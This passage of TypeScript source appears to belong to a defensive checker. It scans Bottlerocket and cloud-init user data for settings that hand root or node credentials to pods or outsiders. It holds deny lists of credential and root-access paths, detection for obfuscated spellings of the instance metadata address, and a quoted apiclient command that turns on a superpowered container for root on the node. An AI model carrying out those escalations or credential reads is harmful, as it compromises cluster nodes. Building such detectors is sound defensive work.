          ];
}

function bottlerocketOpenings(body: string): NodeOpening[] {
    let parsed: Record<string, any>;
    try {
        parsed = parseToml(body) as Record<string, any>;
    } catch (e) {
        return [unreadable("Bottlerocket user data", (e as Error).message)];
    }
    // Bottlerocket's settings run and configure root processes (host containers, bootstrap commands, sysctls): a data
    // directory pods may write in any of them is refused like in any root-read text (rootReads.ts).
    return [
        ...bottlerocketSettingsOpenings(obj(parsed.settings), "user data", 0),
        ...rootReadOpenings(
            stringsIn(parsed, "").map(s => ({ text: s.value, readBy: `in Bottlerocket setting ${s.at}` })),
        ),
    ];
}

/**
 * The control container's image as Bottlerocket ships it (settings.host-containers.control.source: Bottlerocket's ECR
 * account 328549459982 through the ecr-prefix helper, or its public.ecr.aws gallery).
 */
const DEFAULT_CONTROL_SOURCE =
    /^(328549459982\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com(\.cn)?|public\.ecr\.aws\/bottlerocket)\/bottlerocket-control:v[0-9.]+$/;

/** Bottlerocket settings (the `settings` table, or what an apiclient command sets), judged as one. */
function bottlerocketSettingsOpenings(settings: Record<string, any>, where: string, depth: number): NodeOpening[] {
    const out: NodeOpening[] = [];
    for (const [name, c] of Object.entries(obj(settings["host-containers"]))) {
        const enabled =
            name === "control" ? obj(c).enabled === undefined || isOn(obj(c).enabled) : isOn(obj(c).enabled);
        const source = obj(c).source;
        // A superpowered container that is off runs nothing (admin's default is superpowered; an apiclient command turning
        // it on is judged with the merged settings).
        if (isOn(obj(c).superpowered) && enabled)
            out.push({
                who: "whoever runs the host container",
                what: `${where} turns on a superpowered Bottlerocket host container ${name} (root on the node)`,
            });
        // The control container registers with SSM: a hybrid activation in its user-data registers the node in the
        // activation's account, whose Session Manager users reach the API socket (bottlerocket-control-container
        // README, "Connecting to AWS Systems Manager (SSM)").
        else if (
            enabled &&
            typeof obj(c)["user-data"] === "string" &&
            /activation/i.test(
                Buffer.from(String(obj(c)["user-data"]), "base64").toString("utf8") + String(obj(c)["user-data"]),
            )
        )
            out.push({
                who: "the account of the SSM hybrid activation",
                what: `${where} gives Bottlerocket host container ${name} an SSM hybrid activation in its user-data: the node registers in that account, whose Session Manager users reach the API socket and turn on the admin container (root on the node)`,
            });
        else if (name === "admin" && isOn(obj(c).enabled))
            out.push({
                who: "whoever runs the host container",
                what: `${where} turns on Bottlerocket's admin host container (SSH into a root shell on the node)`,
            });
        // Every host container mounts the API socket and apiclient (bottlerocket.dev "Host Containers", "API Access":
        // "any user that can access a host container can change configurations"): from any of them, `apiclient set
        // host-containers.admin.superpowered=true` is root on the node. Only the control container (on by default on
        // aws-k8s variants) from Bottlerocket's own image is accepted; admin is judged above.
        else if (
            enabled &&
            name !== "admin" &&
            !(name === "control" && (source === undefined || DEFAULT_CONTROL_SOURCE.test(String(source))))
        )
            out.push({
                who: `whoever publishes ${String(source ?? "its image")} or runs the host container`,
                what: `${where} runs Bottlerocket host container ${name} from ${String(source ?? "(its default source)")}: every host container holds the Bottlerocket API socket (bottlerocket.dev "Host Containers", "API Access"), so it can turn on a superpowered container, root on the node`,
            });
    }
    out.push(
        ...clusterCABundle(
            obj(settings.kubernetes)["cluster-certificate"],
            where,
            "settings.kubernetes.cluster-certificate",
        ),
    );
    // settings.boot: kernel-parameters and init-parameters, each a key with a list of values (bottlerocket.dev
    // settings reference, "boot").
    const boot = obj(settings.boot);
    const bootArgs = ["kernel-parameters", "init-parameters"].flatMap(table =>
        Object.entries(obj(boot[table])).flatMap(([k, v]) => {
            const values = list(v).map(String);
            return values.length === 0 ? [k] : values.map(x => (x === "" ? k : `${k}=${x}`));
        }),
    );
    out.push(...kernelArgsOpenings(bootArgs, `${where}'s settings.boot`));
    // Bootstrap containers run an image the pack cannot read with CAP_SYS_ADMIN and the host's root filesystem
    // (bottlerocket.dev, "Bootstrap Containers"); mode "off" never starts.
    for (const [name, c] of Object.entries(obj(settings["bootstrap-containers"])))
        if (String(obj(c).mode ?? "off") !== "off")
            out.push({
                who: "whoever publishes its image",
                what: `${where} runs Bottlerocket bootstrap container ${name} from ${String(obj(c).source ?? "(no source)")}: an image the pack cannot read, with the node's root filesystem (root on the node); use Bottlerocket's settings instead`,
            });
    const kubernetes = obj(settings.kubernetes);
    for (const [name, p] of Object.entries(obj(kubernetes["static-pods"]))) {
        if (obj(p).enabled === false) continue;
        out.push(...staticPodOpenings(String(obj(p).manifest ?? ""), `Bottlerocket static pod ${name}`));
    }
    // settings.oci-defaults.capabilities.<cap>: the OCI spec every orchestrated container starts from
    // (bottlerocket.dev settings/oci-defaults), judged as a pod's capabilities.add (podSpec.ts).
    for (const [cap, on] of Object.entries(obj(obj(settings["oci-defaults"]).capabilities)))
        if (isOn(on) && !confinedCapability(cap.replace(/-/g, "_")))
            out.push({
                who: "every pod on the node",
                what: `${where} sets oci-defaults.capabilities.${cap}: every container on the node starts with CAP_${cap.replace(/-/g, "_").toUpperCase()}, not on the confined list (Pod Security Standards Baseline's defaults, plus NET_ADMIN, NET_RAW, IPC_LOCK)`,
            });
    // settings.kernel.sysctl (bottlerocket.dev settings reference): a core_pattern pipe judged as in any text.
    for (const [key, value] of Object.entries(obj(obj(settings.kernel).sysctl)))
        out.push(
            ...corePatternOpenings(`${key}=${String(value).replace(/\s+/g, " ")}`, `${where} settings.kernel.sysctl`),
        );
    // Bootstrap commands run apiclient at every boot before host containers start (bottlerocket.dev, "Bootstrap
    // Commands"): what they set is judged with the settings they land on (all modes: another command may turn one on).
    // They run in lexicographical order of their names, each on the settings the ones before it left.
    let landed = Object.fromEntries(Object.entries(settings).filter(([k]) => k !== "bootstrap-commands"));
    for (const [name, c] of Object.entries(obj(settings["bootstrap-commands"])).sort(([a], [b]) => (a < b ? -1 : 1))) {
        const at = `Bottlerocket bootstrap command ${name}`;
        for (const command of list(obj(c).commands)) {
            const set = apiclientSettings(command);
            if (typeof set === "string") out.push(unreadable(at, set));
            else if (depth >= 3) out.push(unreadable(at, "bootstrap commands nested too deep"));
            else out.push(...bottlerocketSettingsOpenings((landed = deepMerge(landed, set)), at, depth + 1));
        }
    }
    return out;
}

function deepMerge(a: Record<string, any>, b: Record<string, any>): Record<string, any> {
    const out: Record<string, any> = { ...a };
    for (const [k, v] of Object.entries(b))
        out[k] = v && typeof v === "object" && !Array.isArray(v) ? deepMerge(obj(out[k]), v) : v;
    return out;
}

/** `a.b."c.d"` as ["a", "b", "c.d"]. */
function dottedKey(key: string): string[] {
    return (key.match(/"[^"]*"|'[^']*'|[^.]+/g) ?? []).map(k => k.trim().replace(/^["']|["']$/g, ""));
}

/**
 * The settings an apiclient command of a bootstrap command sets, or why it cannot be read. Bottlerocket accepts only
 * commands whose first word is `apiclient` (bottlerocket-settings-models, ApiclientCommand); `set` takes key=value
 * pairs (the `settings.` prefix optional) or `--json`/`-j` input (apiclient README, "Set mode"), `ephemeral-storage`
 * and `get` set nothing; any other subcommand (`apply` reads a document from elsewhere, `raw`, `exec`) is unreadable.
 */
function apiclientSettings(command: unknown): Record<string, any> | string {
    if (!Array.isArray(command) || command.some(a => typeof a !== "string"))
        return "a command that is not a list of strings";
    const [program, sub, ...args] = command as string[];
    if (program !== "apiclient") return `${program ?? "(empty)"} is not apiclient, the only program Bottlerocket runs`;
    if (sub === "ephemeral-storage" || sub === "get") return {};
    if (sub !== "set") return `apiclient ${sub ?? ""} sets what the pack cannot read`;
    let settings: Record<string, any> = {};
    for (let i = 0; i < args.length; i++) {
        const arg = args[i];
        const json = arg === "--json" || arg === "-j" ? args[++i] : /^--json=/.test(arg) ? arg.slice(7) : undefined;
        if (json !== undefined) {
            let parsed: unknown;
            try {
                parsed = JSON.parse(json);
            } catch (e) {
                return `apiclient set --json input does not parse (${(e as Error).message})`;
            }
            const { settings: inner, ...top } = obj(parsed);
            settings = deepMerge(deepMerge(settings, top), obj(inner));
            continue;
        }
        const eq = /^((?:"[^"]*"|'[^']*'|[^=])+)=([\s\S]*)$/.exec(arg);
        if (arg.startsWith("-") || !eq) return `apiclient set argument ${arg} is not key=value`;
        const path = dottedKey(eq[1]);
        if (path[0] === "settings") path.shift();
        let value: unknown = eq[2];
        try {
            value = JSON.parse(eq[2]);
        } catch {
            // a bare string
        }
        const leaf = path.reduceRight<unknown>((v, k) => ({ [k]: v }), value);
        settings = deepMerge(settings, obj(leaf));
    }
    return settings;
}

/** A static pod is judged as a pod of the stack would be: the node-confined allowlist (podSpec.ts). */
function staticPodOpenings(manifestBase64: string, where: string): NodeOpening[] {
    let docs: unknown[];
    try {
        docs = yamlDocs(Buffer.from(manifestBase64, "base64").toString("utf8"), `${where}'s manifest`);
    } catch (e) {
        return [unreadable(where, (e as Error).message)];
    }
    return docs.flatMap(doc => {
        const spec = obj(doc).spec;
        const why =
            spec === undefined
                ? "its manifest holds no pod spec"
                : (nodeReach(spec, obj(obj(doc).metadata).annotations) ?? onHostNetwork(spec));
        return why ? [{ who: "the static pod", what: `${where}: ${why}` }] : [];
    });
}

/** Paths of the node's own configuration and credentials: a file written there changes who gets in. */
const NODE_CONFIG_PATHS = [
    /authorized_keys/,
    /^\/etc\/sudoers/,
    // sshd_config.d drop-ins are judged by their content (sshdOpenings), the rest of /etc/ssh refused.
    /^\/etc\/ssh\/(?!sshd_config\.d\/[^/]+$)/,
    /^\/etc\/kubernetes\//,
    /^\/etc\/eks\//,
    /^\/etc\/containerd\//,
    /^\/var\/lib\/kubelet\//,
    // systemd reads units and their drop-ins from every unit directory (systemd.unit(5), "Unit File Load Path").
    /^\/(etc|run|usr\/lib|usr\/local\/lib|lib)\/systemd\/(system|system\.control|transient|generator(\.early|\.late)?)\/(kubelet|containerd)/,
    // Root's home, except the host keys root's own ssh client trusts (sshd(8) "SSH_KNOWN_HOSTS FILE FORMAT": they
    // admit no login, which is authorized_keys', and run nothing), and a tool's bin directory and what is under it
    // (~/bin, ~/.local/bin, ~/go/bin, ~/.cargo/bin, ~/.deno/bin: docs.deno.com "Installation", the install script puts
    // deno in $HOME/.deno/bin): executables like /usr/local/bin's, which no login, shell startup or credential lookup
    // reads (those are root's rc files, .ssh, .aws, .kube, .docker, .config: every other path, and /root itself, whose
    // tree reaches them all).
    /^\/root\/?$|^\/root\/(?!\.ssh\/known_hosts2?$)(?!(\.?[\w-]+\/)?bin(\/|$))/,
    /^\/etc\/(passwd|shadow|group)$/,
];

/**
 * A write_files entry's content as cloud-init writes it: `encoding` b64/base64 decodes base64, gz/gzip gunzips (the
 * content then a YAML !!binary), and gz+b64 and its spellings do both (cloud-init module reference, "Write Files";
 * any other encoding is written as text). Throws when it does not decode, like cloud-init.
 */
function writtenContent(f: Record<string, any>): string {
    const raw = f.content instanceof Uint8Array ? Buffer.from(f.content) : Buffer.from(String(f.content ?? ""), "utf8");
    const encoding = String(f.encoding ?? "")
        .trim()
        .toLowerCase();
    const base64 = ["b64", "base64", "gz+base64", "gzip+base64", "gz+b64", "gzip+b64"].includes(encoding);
    const gzip = ["gz", "gzip", "gz+base64", "gzip+base64", "gz+b64", "gzip+b64"].includes(encoding);
    let bytes = base64 ? Buffer.from(raw.toString("utf8").replace(/\s+/g, ""), "base64") : raw;
    if (gzip) bytes = gunzipSync(bytes);
    return bytes.toString("utf8");
}

/**
 * containerd's registry host configuration, /etc/containerd/certs.d/<host>/hosts.toml (containerd docs/hosts.md,
 * "Registry Host Namespace"; AL2023's containerd config_path): server, capabilities, ca, client, skip_verify, header,
 * override_path say where images come from, nothing that runs or lets anyone in. Read, not refused like the rest of
 * /etc/containerd: it must parse, and a certificate path under a directory pods may write is theirs to replace.
 */
const REGISTRY_HOSTS = /^\/etc\/containerd\/certs\.d\/[^/]+\/hosts\.toml$/;

/**
 * Certificate files beside a registry's hosts.toml (containerd docs/hosts.md, "Support for Docker's Certificate File
 * Pattern": ".crt" files for CA certificates and ".cert"/".key" files for client certificates, read when the host
 * directory has no hosts.toml; with one, the files its `ca` and `client` fields name). A CA certificate there only adds
 * TLS trust for pulls from that one registry host, the trust hosts.toml's `ca` already gives a file anywhere on the
 * node; a client certificate is public. Written as PEM certificates the pack reads, they are accepted; anything else
 * (content it cannot read, a private key) stays the node's configuration (NODE_CONFIG_PATHS).
 */
const REGISTRY_CERTS = /^\/etc\/containerd\/certs\.d\/[^/]+\/[^/]+\.(crt|cert|key)$/;

/** Whether text is one or more PEM certificates and nothing else (RFC 7468, "Textual Encoding of Certificates"). */
const pemCertificates = (text: string) =>
    /^(\s*-----BEGIN CERTIFICATE-----[A-Za-z0-9+/=\s]+-----END CERTIFICATE-----)+\s*$/.test(text);

function registryCertOpenings(path: string, content: string, how: string): NodeOpening[] {
    // DECIDED (round 37): a client key is a credential: containerd presents it to that registry as the node, and a key
    // written in user data is read by whoever reads the launch template's user data or the instance's metadata
    // (host-network pods). Only certificates are accepted in certs.d.
    if (path.endsWith(".key"))
        return [
            {
                who: "whoever reads the node's user data",
                what: `user data writes a registry client key, ${path} (${how}): containerd presents it to that registry (containerd docs/hosts.md, ".cert"/".key" client certificates), and a key in user data is read by whoever reads the launch template or the instance's metadata; fetch it at boot (Secrets Manager) into a file outside /etc/containerd and name the pair in hosts.toml \`client\``,
            },
        ];
    return pemCertificates(content)
        ? []
        : [
              {
                  who: "whoever chooses what is written",
                  what: `user data writes ${path} (${how}) with content that is not PEM certificates only: containerd reads a .crt there as the CA it trusts for that registry and a .cert as its client certificate (containerd docs/hosts.md); write only -----BEGIN CERTIFICATE----- blocks`,
              },
          ];
}

const passwordOpening = (how: string): NodeOpening => ({
    who: "whoever knows the password user data sets",
    what: `user data sets a login password or password SSH (${how}): ${ROOT_SSH}`,
    // User data is no place for a password: "not protected by cryptographic methods" and readable by whoever may
    // describe the instance (EC2 user guide, "Run commands when you launch an EC2 instance with user data input").
    anyInstance: {
        who: "whoever learns or guesses the password user data sets, readable with ec2:DescribeInstanceAttribute",
        what: `user data sets a login password or password SSH (${how}): a login beside the operators' SSH key, on the instance's network (its instance profile's role through instance metadata)`,
    },
});

/**
 * Files whose content decides who gets in or what root runs: written with content the pack cannot read (a download, a
 * program's output, a copy of such a file), they are refused. The node's configuration (NODE_CONFIG_PATHS), sshd's,
 * the loader's list (ld.so(8)), PAM, login shells' profiles, systemd's units, cron, kernel modules and udev rules,
 * cloud-init's own configuration, fstab and tmpfiles.d.
 */
const READ_BEFORE_WRITE = [
    /^\/etc\/ssh\//,
    /^\/etc\/ld\.so\.(preload|conf)/,
    /^\/etc\/(pam\.d|security)\//,
    /^\/etc\/(profile|bashrc|bash\.bashrc|environment)($|\.d\/)/,
    /^\/(etc|run|usr\/lib|usr\/local\/lib|lib)\/systemd\//,
    /^\/etc\/(crontab$|cron\.|anacrontab$)/,
    /^\/var\/spool\/cron\//,
    /^\/etc\/(rc\.local$|init\.d\/|rc\.d\/)/,
    /^\/etc\/(modprobe\.d|modules-load\.d|udev\/rules\.d)\//,
    /^\/etc\/cloud\//,
    /^\/var\/lib\/cloud\/scripts\//,
    /^\/etc\/fstab$/,
    /^\/(etc|run|usr\/lib)\/tmpfiles\.d\//,
];

/**
 * A proxy setting, `NAME=value` (an environment assignment, a unit's Environment= word) or `name = "value"` (TOML,
 * INI): http_proxy/https_proxy name where a client sends its own requests, no_proxy the hosts it reaches directly
 * ("URLs that should be excluded from proxying": CloudWatch agent user guide, "Modify the common configuration and
 * named profile for CloudWatch agent", common-config.toml [proxy]; EKS user guide, "Configure proxy for hybrid
 * nodes"). Naming instance metadata there relays nothing: the usual no_proxy=169.254.169.254 keeps metadata calls off
 * the proxy. One value only, so nothing else on the line hides behind it.
 */
const proxySetting = (text: string) =>
    /^\s*(export\s+)?(https?_proxy|no_proxy)\s*=\s*("[^"]*"|'[^']*'|[^\s"';#]*)\s*(#.*)?$/i.test(text);

/**
 * A kubelet or containerd drop-in that only orders or conditions the service, or sets how it restarts
 * (systemd.unit(5) [Unit] dependencies, RequiresMountsFor=, Condition*=; systemd.service(5) Restart=, Timeout*=):
 * it changes nothing the service trusts.
 */
const SERVICE_DROP_IN =
    /^\/(etc|run|usr\/lib|usr\/local\/lib|lib)\/systemd\/system\/(kubelet|containerd)\.service\.d\/[^/]+\.conf$/;
function ordersOnly(content: string): boolean {
    let section = "";
    return content.split(/\r?\n/).every(raw => {
        const line = raw.trim();
        if (line === "" || /^[#;]/.test(line)) return true;
        const header = /^\[([^\]]+)\]$/.exec(line);
        if (header) return !!(section = header[1]);
        const key = /^([A-Za-z]+)\s*=/.exec(line)?.[1] ?? "";
        return section === "Unit"
            ? /^(Description|Documentation|After|Before|Wants|Requires|Requisite|BindsTo|PartOf|RequiresMountsFor|WantsMountsFor|StartLimit[A-Za-z]+|Condition[A-Za-z]+|Assert[A-Za-z]+)$/.test(
                  key,
              )
            : section === "Service" &&
                  // Resource limits (systemd.exec(5) "Process Properties": LimitNOFILE= ...) change nothing it trusts or runs.
                  (/^(Restart|RestartSec|RestartSteps|RestartMaxDelaySec|TimeoutStartSec|TimeoutStopSec|TimeoutSec|Limit[A-Z]+|TasksMax)$/.test(
                      key,
                  ) ||
                      // Proxy variables route its outbound requests, still verified against the same CAs (EKS user
                      // guide, "Configure proxy for hybrid nodes": http-proxy.conf drop-ins for containerd and kubelet).
                      (key === "Environment" &&
                          (line.slice(line.indexOf("=") + 1).match(/"[^"]*"|'[^']*'|\S+/g) ?? []).every(w =>
                              proxySetting(w.replace(/^["']|["']$/g, "")),
                          )));
    });
}

/**
 * A sudoers drop-in of Defaults only, each one that tightens or logs (CIS AL2023 "Ensure sudo commands use pty",
 * "Ensure sudo log file exists"; sudoers(5) "SUDOERS OPTIONS"): Defaults grant nobody anything, but some loosen
 * sudo (`!authenticate`, env_keep, secure_path ...), and those stay refused with every user rule.
 */
function tighteningSudoDefaults(content: string): boolean {
    const tightening =
        /^(use_pty|requiretty|log_input|log_output|log_allowed|log_denied|env_reset|always_set_home|mail_badpass|!visiblepw|!pwfeedback)$|^(logfile|iolog_dir|iolog_file|timestamp_timeout|passwd_timeout|passwd_tries|lecture|badpass_message|umask)=/;
    return content.split(/\r?\n/).every(raw => {
        const line = raw.trim();
        if (line === "" || line.startsWith("#")) return true;
        const m = /^Defaults\s+(.*)$/.exec(line);
        return !!m && m[1].split(/\s*,\s*/).every(o => tightening.test(o.replace(/\s*=\s*/, "=")));
    });
}

/**
 * Root's ssh client configuration (ssh_config(5)) that only names hosts, how to authenticate to them and local forwards
 * bound to loopback: ssh_config(5) LocalForward "Specifies that a TCP port on the local machine be forwarded over the
 * secure channel to the specified host and port from the remote machine"; "The bind_address of localhost indicates that
 * the listening port be bound for local use only" (a bare port too, "in accordance with the GatewayPorts setting",
 * default no, a keyword not admitted here). Only the node's own processes reach such a port, and it reaches another
 * host, not the node. Every other keyword is refused, failing closed: RemoteForward and DynamicForward (the node to
 * the remote side, a SOCKS proxy), ForwardAgent/ForwardX11, ProxyCommand, LocalCommand, KnownHostsCommand, Match exec
 * (commands root runs), Include (a file the pack does not read), ControlPath (a socket reusing the connection), and
 * any the pack does not list.
 */
function sshConfigLocalOnly(content: string): boolean {
    return content.split(/\r?\n/).every(raw => {
        const line = raw.trim();
        if (line === "" || line.startsWith("#")) return true;
        const m = /^(\w+)\s*(?:=\s*|\s+)(.*)$/.exec(line);
        if (!m) return false;
        const [, key, value] = m;
        // Files root's ssh reads keys and host keys from: root's own or /etc/ssh (a pod-writable path would let pods
        // choose the host key root trusts).
        if (/^(identityfile|userknownhostsfile|globalknownhostsfile)$/i.test(key))
            return value
                .trim()
                .split(/\s+/)
                .every(p => /^(~\/|\/root\/|\/etc\/ssh\/)/.test(p) && !p.includes(".."));
        if (/^localforward$/i.test(key)) {
            const listen = value.trim().split(/\s+/)[0] ?? "";
            const parts = listen.match(/\[[^\]]*\]|[^:]+/g) ?? [];
            if (parts.length === 1) return /^\d+$/.test(parts[0]);
            return parts.length === 2 && /^\d+$/.test(parts[1]) && loopbackOnly([parts[0].replace(/^\[|\]$/g, "")]);
        }
        return /^(host|hostname|user|port|identitiesonly|stricthostkeychecking|hashknownhosts|checkhostip|serveraliveinterval|serveralivecountmax|tcpkeepalive|connecttimeout|connectionattempts|exitonforwardfailure|compression|loglevel|batchmode|preferredauthentications|pubkeyauthentication|passwordauthentication|kbdinteractiveauthentication|addressfamily|ciphers|macs|kexalgorithms|hostkeyalgorithms|pubkeyacceptedalgorithms|pubkeyacceptedkeytypes|requesttty|sessiontype|stdinnull|forkafterauthentication)$/i.test(
            key,
        );
    });
}

/**
 * Root's AWS CLI config naming only where and how calls go (AWS CLI user guide, "Configuration and credential file
 * settings"): region, output, endpoints, retries. credential_process, role_arn/source_profile, web_identity_token_file,
 * sso_* and keys change whose credentials root uses, and stay refused.
 */
function awsConfigWithoutCredentials(content: string): boolean {
    return content.split(/\r?\n/).every(raw => {
        const line = raw.trim();
        if (line === "" || /^[#;]/.test(line) || /^\[(default|profile [A-Za-z0-9_.-]+)\]$/.test(line)) return true;
        return /^(region|output|sts_regional_endpoints|use_fips_endpoint|use_dualstack_endpoint|retry_mode|max_attempts|cli_pager|cli_timestamp_format|duration_seconds)\s*=/.test(
            line,
        );
    });
}

/** Where the node keeps credentials (tokens, keys) rather than sockets or state: a subset of podSpec.ts NODE_SECRETS. */
const NODE_CREDENTIALS = ["/var/lib/kubelet", "/etc/kubernetes/pki", "/eks-hybrid/.aws", "/var/eks-hybrid/.aws"];

/** The instance metadata service's addresses (EC2 user guide, "Instance metadata service"): IPv4 and IPv6. */
const IMDS_V4 = 0xa9fea9fe;
const IMDS_V6 = [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254];

/**
 * An IPv4 address read as inet_aton(3) reads it (glibc getaddrinfo takes the same forms for a numeric host): a.b.c.d,
 * a.b.c, a.b or a single number, each part decimal, 0x hex or 0 octal (127.1, 0x7f000001, 2130706433 are 127.0.0.1);
 * undefined when `text` is not one.
 */
function inetAton(text: string): number | undefined {
    if (!/^(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}$/i.test(text)) return undefined;
    const parts = text
        .split(".")
        .map(p => (/^0x/i.test(p) ? parseInt(p, 16) : /^0[0-7]+$/.test(p) ? parseInt(p, 8) : Number(p)));
    if (parts.some(n => !Number.isFinite(n))) return undefined;
    const widths = [[32], [8, 24], [8, 8, 16], [8, 8, 8, 8]][parts.length - 1];
    if (parts.some((n, i) => n >= 2 ** widths[i])) return undefined;
    return parts.reduce((acc, n, i) => acc * 2 ** widths[i] + n, 0);
}

/**
 * An IPv6 address read as inet_pton(3) reads it (RFC 4291 §2.2; RFC 5952 only recommends one spelling, every other is
 * the same address): eight groups of one to four hex digits (leading zeros optional), one `::` standing for one or
 * more zero groups, the last 32 bits optionally a dotted IPv4 address (0:0:0:0:0:ffff:127.0.0.1), a `%zone` (RFC 4007
 * §11, getaddrinfo takes it) dropped. Its eight groups, or undefined when `text` is not one.
 */
function inet6Pton(text: string): number[] | undefined {
    const address = text.replace(/%[\w.-]+$/, "").toLowerCase();
    const v4Tail = /^(.*:)(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$/.exec(address);
    if (v4Tail && v4Tail.slice(2).some(n => Number(n) > 255)) return undefined;
    const hex = v4Tail
        ? `${v4Tail[1]}${((Number(v4Tail[2]) << 8) | Number(v4Tail[3])).toString(16)}:${((Number(v4Tail[4]) << 8) | Number(v4Tail[5])).toString(16)}`
        : address;
    const halves = hex.split("::");
    if (halves.length > 2) return undefined;
    const groups = (half: string) => (half === "" ? [] : half.split(":"));
    const [left, right] = [groups(halves[0]), groups(halves[1] ?? "")];
    if (![...left, ...right].every(g => /^[0-9a-f]{1,4}$/.test(g))) return undefined;
    const missing = 8 - left.length - right.length;
    if (halves.length === 1 ? missing !== 0 : missing < 1) return undefined;
    return [...left, ...Array<string>(halves.length === 1 ? 0 : missing).fill("0"), ...right].map(g => parseInt(g, 16));
}

/**
 * The address a numeric host names, in every spelling the node's resolver takes (getaddrinfo: inet_aton(3)'s IPv4
 * forms, inet_pton(3)'s IPv6 ones; brackets dropped): `v4` an IPv4 address, also one IPv4-mapped (::ffff:a.b.c.d,
 * RFC 4291 §2.5.5.2: a v6 socket connects to and binds the IPv4 address itself); `v6` the eight groups of any other
 * IPv6 address. Undefined: not an address (a name, a variable, a list).
 */
function ipAddress(host: string): { v4: number } | { v6: number[] } | undefined {
    const text = host.trim().replace(/^\[(.*)\]$/, "$1");
    const v4 = inetAton(text);
    if (v4 !== undefined) return { v4 };
    const v6 = inet6Pton(text);
    if (v6 === undefined) return undefined;
    return v6.slice(0, 5).every(g => g === 0) && v6[5] === 0xffff ? { v4: v6[6] * 0x10000 + v6[7] } : { v6 };
}

/**
 * Whether text names instance metadata in any spelling the node's resolver accepts: IPv4 in inet_aton(3)'s forms
 * (a.b.c.d, a.b.c, a.b, a single number; each part decimal, 0x hex or 0 octal: 2852039166, 0xa9fea9fe,
 * 0251.0376.0251.0376), IPv6 fd00:ec2::254 in any spelling, or an IPv4-mapped address (::ffff:a9fe:a9fe) (ipAddress).
 */
function namesImds(text: string): boolean {
    // EC2's DNS name for it (instance-data, instance-data.ec2.internal); not cloud-init's instance-data.json.
    if (/(?<![\w.-])instance-data(?:\.ec2\.internal|\.[a-z0-9-]+\.compute\.internal)?(?![\w.-])/i.test(text))
        return true;
    for (const m of text.matchAll(/(?<![\w.])(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}(?![\w])/gi))
        if (inetAton(m[0]) === IMDS_V4) return true;
    for (const m of text.matchAll(
        /(?<![\w:])[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?::\d+\.\d+\.\d+\.\d+)?(?![\w:])/gi,
    )) {
        const address = ipAddress(m[0]);
        if (address && ("v4" in address ? address.v4 === IMDS_V4 : address.v6.every((g, i) => g === IMDS_V6[i])))
            return true;
    }
    return false;
}
const hopLimitUndone = (how: string): NodeOpening => ({
    who: "every pod on the node",
    what: `user data changes packets' TTL on the node (${how}): that undoes the instance metadata hop limit of 1, so pods get IMDSv2 tokens and the node role's credentials (EKS best practices, "Restrict access to the instance profile assigned to the worker node")`,
});

/** dockerd's -H/--host values on TCP without --tlsverify (see nodeJudge.ran). */
function dockerHostOpenings(args: readonly string[], where: string): NodeOpening[] {
    const hosts = args.flatMap((w, i) =>
        /^(-H|--host)$/.test(args[i - 1] ?? "")
            ? [w]
            : /^(--host=|-H)./.test(w)
              ? [w.replace(/^(--host=|-H)/, "")]
              : [],
    );
    const verified = args.some(w => /^--tlsverify(=true)?$/.test(w));
    return dockerTcp(hosts, verified, where);
}

/** /etc/docker/daemon.json: `hosts` on TCP without `tlsverify` (dockerd(8), "Daemon configuration file"). */
function dockerDaemonJsonOpenings(content: string, where: string): NodeOpening[] {
    let config: Record<string, unknown>;
    try {
        config = obj(JSON.parse(content));
    } catch {
        return [
            {
                who: "whoever the daemon then serves",
                what: `${where} is not JSON the pack can read: which hosts dockerd listens on is unknown; write valid JSON`,
            },
        ];
    }
    return dockerTcp(list(config.hosts).map(String), config.tlsverify === true, where);
}

function dockerTcp(hosts: readonly string[], verified: boolean, where: string): NodeOpening[] {
    const tcp = hosts.find(h => /^(tcp|http):\/\//i.test(h.trim()) || /^:?\d+$/.test(h.trim()));
    return [
        ...(tcp && !verified ? [rootApiOnNetwork(DOCKER_API, tcp, where, " without --tlsverify")] : []),
        ...rootApiSockets(hosts, where, "dockerd's -H"),
    ];
}

/** What names a root-power API (rootApiOnNetwork) in its refusals. */
const DOCKER_API = "dockerd serve its API";
const PODMAN_API = "root's Podman serve its API (podman system service)";

/**
 * A root-power container API (dockerd's, root's Podman's) serving on the network: whoever connects starts privileged
 * containers with the node's / mounted. Docker docs, "Protect the Docker daemon socket" (only --tlsverify authenticates
 * clients); podman-system-service(1): "the API grants full access to Podman's capabilities, and as such should be
 * treated as allowing arbitrary code execution as the user running the API ... we strongly recommend against making
 * the API socket available via the network". On loopback too: host-network pods reach the node's loopback.
 */
function rootApiOnNetwork(api: string, endpoint: string, where: string, unverified = ""): NodeOpening {
    const daemon = api === DOCKER_API ? "dockerd" : "the API";
    return {
        who: "every pod that reaches the node",
        what: `${where} has ${api} on ${endpoint}${unverified}: whoever connects starts privileged containers with the node's / mounted (Docker docs, "Protect the Docker daemon socket"; podman-system-service(1)); keep ${daemon} on its unix socket`,
        anyInstance: {
            who: ON_THE_NETWORK,
            what: `${where} has ${api} on ${endpoint}${unverified}: ${INSTANCE_ROLE_THROUGH_IMDS} from a host-network container it starts; keep ${daemon} on its unix socket`,
        },
    };
}

/**
 * A root-power API's unix socket (unix://PATH or a path) under a directory pods may write (writablePathOpenings), or
 * anywhere else a pod may mount: outside the root-power sockets podSpec.ts keeps pods from mounting (rootPowerSocket:
 * NODE_SECRETS, ROOT_SOCKETS) a root pod mounting it, or its directory, read-only too, connects (connect(2) needs write
 * permission on the socket file, which a read-only mount does not take away: podSpec.ts NODE_SECRETS, the /run/nri
 * note) and passes its root:root mode.
 */
function rootApiSockets(endpoints: readonly string[], where: string, at: string): NodeOpening[] {
    const sockets = endpoints.filter(e => /^(unix:\/\/)?\//i.test(e.trim())).map(value => ({ at, value }));
    const writable = writablePathOpenings(sockets, where);
    return [
        ...writable,
        ...(writable.length > 0 ? [] : sockets).flatMap(({ value }) => {
            const path = posix.resolve("/", value.trim().replace(/^unix:\/\//i, ""));
            return rootPowerSocket(path)
                ? []
                : [
                      {
                          who: `every root pod that may mount ${posix.dirname(path)}`,
